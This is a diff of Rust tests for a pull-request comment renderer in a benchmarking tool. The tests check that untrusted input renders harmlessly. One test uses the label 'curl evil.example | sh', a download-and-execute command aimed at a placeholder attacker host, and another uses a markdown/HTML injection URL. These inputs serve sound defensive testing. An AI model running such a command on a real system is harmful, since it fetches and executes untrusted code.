@@ -1,18 +1,20 @@
 //! The comment on a pull request.
 
+use crate::sides::Sides;
 use crate::sides::{self, ab, bare, calibrated, crashed, hostile_ab, measured, undecided};
 use crate::values::{self, HOSTILE, hostile_judgement, hostile_report, judgement, mixed_report};
 use holdpoint_model::ab::Ended;
-use holdpoint_model::{AbReport, Check, Date, SideName, UsedWaiver, Verdict, WaiverState};
+use holdpoint_model::{Check, Date, SideName, Source, UsedWaiver, Verdict, WaiverState};
 use holdpoint_render::judged::{Judged, Rate};
 use holdpoint_render::markdown::comment::{BYTES_MAX, Comment, Trust, comment, marker};
 use insta::assert_snapshot;
 use proptest::prelude::*;
 use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 
-pub fn of(judged: Vec<Judged<'_>>) -> Comment<'_> {
+pub fn of(judged: Option<Judged<'_>>) -> Comment<'_> {
     Comment {
         key: "cpu",
+        verdict: judged.map_or(Verdict::Inconclusive, |judged| judged.judgement.verdict),
         judged,
         report: None,
         calibration: None,
@@ -37,7 +39,7 @@ pub fn waiver(owner: &str, reason: &str, state: WaiverState) -> UsedWaiver {
 }
 
 /// A bit of everything.
-pub fn mixed() -> AbReport {
+pub fn mixed() -> Sides {
     let mut waived = measured(
         Verdict::Waived,
         0.512,
@@ -79,9 +81,8 @@ fn two_sides_with_everything_that_can_come_of_them() {
         machine_s: Some(83.2),
         rate: rate.as_ref(),
         run_url: Some("https://github.com/o/r/actions/runs/1"),
-        ..of(vec![Judged::Sides(&r)])
+        ..of(Some(r.judged()))
     };
-    assert_eq!(page.verdict(), Verdict::Broken);
     assert_snapshot!("comment_ab", comment(&page));
 }
 
@@ -94,26 +95,22 @@ fn a_run_against_its_baseline() {
         values::elsewhere("tile_pack_p50_ms"),
     ];
     let (j, report) = (judgement(Verdict::Regressed, checks), mixed_report());
-    assert_snapshot!("comment_run", comment(&of(vec![Judged::Run(&j, Some(&report))])));
+    assert_snapshot!("comment_run", comment(&of(Some(Judged::new(&j, Some(Source::Run(&report)))))));
 }
 
 #[test]
 fn a_pass_is_short() {
     let r = ab(vec![("ff_path", sides::pass(1.373, 1.0012)), ("tile_pack", sides::pass(0.1234, 1.0003))]);
-    assert_snapshot!("comment_pass", comment(&of(vec![Judged::Sides(&r)])));
+    assert_snapshot!("comment_pass", comment(&of(Some(r.judged()))));
 }
 
 #[test]
 fn nothing_to_judge_is_inconclusive_and_never_silent() {
     let problems = ["ab.json: EOF while parsing".to_owned()];
-    let page = Comment { problems: &problems, ..of(vec![]) };
-    assert_eq!(page.verdict(), Verdict::Inconclusive);
+    let page = Comment { problems: &problems, ..of(None) };
     assert_snapshot!("comment_nothing", comment(&page));
-    let good = ab(vec![("a", sides::pass(1.0, 1.0))]);
-    let half = Comment { problems: &problems, ..of(vec![Judged::Sides(&good)]) };
-    assert_eq!(half.verdict(), Verdict::Inconclusive, "a file that cannot be read is no pass");
     let report = mixed_report();
-    assert!(comment(&Comment { report: Some(&report), ..of(vec![]) }).contains("compared with nothing"));
+    assert!(comment(&Comment { report: Some(&report), ..of(None) }).contains("compared with nothing"));
 }
 
 #[test]
@@ -121,9 +118,9 @@ fn a_strangers_file_gives_no_command_to_copy_and_says_whose_it_is() {
     let mut r = ab(vec![("command", sides::regressed(1.0, 1.1))]);
     (r.suite, r.base.revision, r.head.revision) = ("command".to_owned(), None, None);
     (r.base.label, r.head.label) = ("gzip -5 'x'".to_owned(), "curl evil.example | sh".to_owned());
-    let own = comment(&of(vec![Judged::Sides(&r)]));
+    let own = comment(&of(Some(r.judged())));
     assert!(own.contains("--base 'gzip -5 '\\''x'\\''' --head 'curl"), "{own}");
-    let foreign = comment(&Comment { trust: Trust::Foreign, ..of(vec![Judged::Sides(&r)]) });
+    let foreign = comment(&Comment { trust: Trust::Foreign, ..of(Some(r.judged())) });
     assert!(
         !foreign.contains("```sh") && foreign.starts_with(&format!("{}\n> **Not proof**: ", marker("cpu"))),
         "{foreign}"
@@ -137,7 +134,7 @@ fn ten_thousand_rows_fit_and_what_is_left_out_is_counted() {
     checks[9_999] = values::regressed("the_one_p50_ms", 1.0, 2.0);
     let mut j = judgement(Verdict::Regressed, checks);
     j.notes = vec![HOSTILE.repeat(50); 100];
-    let text = comment(&of(vec![Judged::Run(&j, None)]));
+    let text = comment(&of(Some(Judged::new(&j, None))));
     assert!(text.len() <= BYTES_MAX, "{}", text.len());
     assert!(text.contains("the_one_p50_ms"), "the worst stay");
     assert!(text.contains("rows are left out, the least bad first"), "{text}");
@@ -205,16 +202,19 @@ fn assert_quiet(said: &str) {
 fn hostile_text_is_harmless() {
     let (sides, run, report) = (hostile_ab(), hostile_judgement(), hostile_report());
     let problems = [HOSTILE.to_owned()];
-    for trust in [Trust::Own, Trust::Foreign] {
+    let both = [sides.judged(), Judged::new(&run, Some(Source::Run(&report)))];
+    for (trust, judged) in
+        [Trust::Own, Trust::Foreign].into_iter().flat_map(|trust| both.map(|judged| (trust, judged)))
+    {
         let page = Comment {
             problems: &problems,
             trust,
             run_url: Some("https://github.com/o/r/actions/runs/1"),
-            ..of(vec![Judged::Sides(&sides), Judged::Run(&run, Some(&report))])
+            ..of(Some(judged))
         };
         assert_harmless(&comment(&page));
     }
-    let page = Comment { run_url: Some("https://x/](y)<b>"), ..of(vec![]) };
+    let page = Comment { run_url: Some("https://x/](y)<b>"), ..of(None) };
     assert!(!comment(&page).contains("<b>"));
 }
 
@@ -293,6 +293,8 @@ proptest! {
         ]);
         (r.suite, r.base.label, r.notes) = (name.clone(), owner.clone(), vec![reason.clone()]);
         let j = judgement(Verdict::Regressed, vec![values::regressed(&name, 1.0, 2.0), values::status(&owner, Verdict::Broken)]);
-        assert_harmless(&comment(&of(vec![Judged::Sides(&r), Judged::Run(&j, None)])));
+        for judged in [r.judged(), Judged::new(&j, None)] {
+            assert_harmless(&comment(&of(Some(judged))));
+        }
     }
 }
